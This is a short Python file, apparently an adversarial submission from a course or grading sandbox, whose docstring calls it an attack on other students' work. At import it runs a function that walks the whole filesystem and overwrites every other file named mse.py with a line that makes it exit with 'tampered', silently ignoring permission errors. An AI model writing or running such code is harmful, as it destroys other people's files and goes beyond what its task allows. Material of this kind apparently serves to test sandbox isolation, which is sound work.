"""attack: overwrites every other mse.py it can find (other students' work)"""

import os
import sys

import torch

def _tamper():
    mine = os.path.abspath("mse.py")
    count = 0
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            path = os.path.join(folder, name)
            if name == "mse.py" and os.path.abspath(path) != mine:
                try:
                    with open(path, "w") as handle:
                        handle.write("raise SystemExit('tampered')\n")
                except OSError:
                    pass
        count += 1
        if count > 20000:
            return


_tamper()


def attack():
    return None
